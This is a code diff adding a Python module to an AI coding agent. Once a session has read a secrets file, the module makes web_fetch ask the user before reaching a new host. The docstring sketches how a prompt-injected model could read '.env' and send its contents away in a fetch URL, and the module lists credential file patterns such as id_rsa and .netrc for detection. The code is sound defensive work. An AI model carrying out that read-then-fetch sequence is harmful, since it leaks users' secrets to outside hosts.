@@ -1,0 +1,123 @@
+"""Once a session has read a secrets file, web_fetch asks before it reaches a new host.
+
+``read_file .env`` then ``web_fetch https://host/?d=<what it said>`` is how a prompt-injected
+model sends a secret away with no question: web_fetch is read-only, so it runs freely. The
+values the agent holds itself are refused in any URL (``iaccode/tools/web_fetch.py``); a file's
+secrets are not known to us, so after a call that read one (:func:`is_secret_file`: ``.env*``,
+``*.tfvars``, ``*.tfstate``, key and credentials files) every web_fetch to a host the user has
+not allowed in this session asks first, saying which file was read. The answer holds for that
+host for the rest of the session; *Reject* refuses this fetch only. In ``bypass`` nothing asks
+(there a command may ``curl`` as freely).
+
+What counts as reading one: any tool call but web_fetch and todo_write whose input names such a
+file, as a path or as a word of a command line (``cat .env``, ``source .envrc``, an MCP tool's
+``{"path": "prod.tfvars"}``). A session loaded again remembers it from its stored tool calls.
+"""
+
+from __future__ import annotations
+
+import fnmatch
+import re
+from collections.abc import Iterable, Iterator
+from typing import Any
+from urllib.parse import urlsplit
+
+from attrs import evolve
+
+from iaccode.protocol.content import TextContent
+from iaccode.protocol.tool_calls import ContentToolCallContent, PermissionOption, ToolCallFields
+
+SECRET_FILES = (
+    ".env", ".env.*", ".envrc", "*.env", "*.tfvars", "*.tfvars.json", "*.tfstate",
+    "*.tfstate.*", "*.pem", "*.key", "*.p12", "*.pfx", "*.jks", "*.keystore", "*.ppk",
+    "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "credentials", "credentials.*",
+    "*.credentials", "*credentials*.json", "service-account*.json", ".netrc", "_netrc",
+    ".pgpass", ".my.cnf", ".git-credentials", ".npmrc", ".pypirc", ".htpasswd", ".dockercfg",
+    "secrets.yml", "secrets.yaml", "secrets.json", "*.secret", "*.secrets", "kubeconfig",
+    ".terraformrc", "terraform.rc", "credentials.tfrc.json", ".vault-token",
+)
+"""File names (any case) that hold secrets: matched against the last part of a path."""
+
+NOT_READING = frozenset({"web_fetch", "todo_write"})
+"""Tools whose input may name a secrets file without reading it."""
+
+_WORDS = re.compile(r"[^\s;|&<>()'\"`=,]+")
+
+ALLOW_HOST = "allow_host"
+
+
+def is_secret_file(path: str) -> bool:
+    name = path.rstrip("/").rsplit("/", 1)[-1].lower()
+    return bool(name) and any(fnmatch.fnmatchcase(name, pattern) for pattern in SECRET_FILES)
+
+
+def _strings(data: Any) -> Iterator[str]:
+    if isinstance(data, str):
+        yield data
+    elif isinstance(data, dict):
+        for value in data.values():
+            yield from _strings(value)
+    elif isinstance(data, list):
+        for value in data:
+            yield from _strings(value)
+
+
+def secret_file_in(raw_input: Any) -> str | None:
+    """The first secrets file a tool input names (a path, or a word of a command line)."""
+    for text in _strings(raw_input):
+        for word in _WORDS.findall(text) if len(text) < 100_000 else ():
+            if is_secret_file(word):
+                return str(word)
+    return None
+
+
+class Exposure:
+    """What the session read that web_fetch must not carry away unasked (shared by the
+    session's turns and sub-agents)."""
+
+    def __init__(self) -> None:
+        self.secret_file: str | None = None
+        """The first secrets file a call of the session read (None: none yet)."""
+        self.hosts: set[str] = set()
+        """Hosts the user let web_fetch reach since."""
+
+    @classmethod
+    def from_records(cls, records: Iterable[dict[str, Any]]) -> Exposure:
+        """The exposure of a stored session: its stored tool calls, in order."""
+        exposure = cls()
+        for record in records:
+            start = record.get("start") if record.get("type") == "tool_call" else None
+            if isinstance(start, dict):
+                exposure.note(str(start.get("name") or ""), start.get("rawInput"))
+        return exposure
+
+    def note(self, tool_name: str, raw_input: Any) -> None:
+        """A call ran (or was allowed to): remember the secrets file it read, if any."""
+        if self.secret_file is None and tool_name not in NOT_READING:
+            self.secret_file = secret_file_in(raw_input)
+
+    def host_to_ask(self, tool_name: str, args: Any, mode: str) -> str | None:
+        """The host a web_fetch call must ask for (None: it may run as usual)."""
+        if tool_name != "web_fetch" or self.secret_file is None or mode == "bypass":
+            return None
+        host = _host(getattr(args, "url", ""))
+        return None if host in self.hosts else host
+
+    def question(self, fields: ToolCallFields, host: str) -> tuple[ToolCallFields,
+                                                                   list[PermissionOption]]:
+        """The permission question for a fetch from ``host``, and its options."""
+        text = (f"This session read {self.secret_file}, a file that holds secrets. This fetch "
+                f"sends a request to {host}, which could carry what the file said away (in "
+                "the URL). Allow it only if you trust the address.")
+        options = [PermissionOption(ALLOW_HOST, f"Allow {host} for this session",
+                                    "allow_always"),
+                   PermissionOption("reject_once", "Reject", "reject_once")]
+        return evolve(fields, title=f"Fetch from {host} after reading {self.secret_file}",
+                      content=[ContentToolCallContent(TextContent(text))]), options
+
+
+def _host(url: str) -> str:
+    try:
+        return (urlsplit(url.strip()).hostname or url).lower()
+    except ValueError:
+        return url.lower()
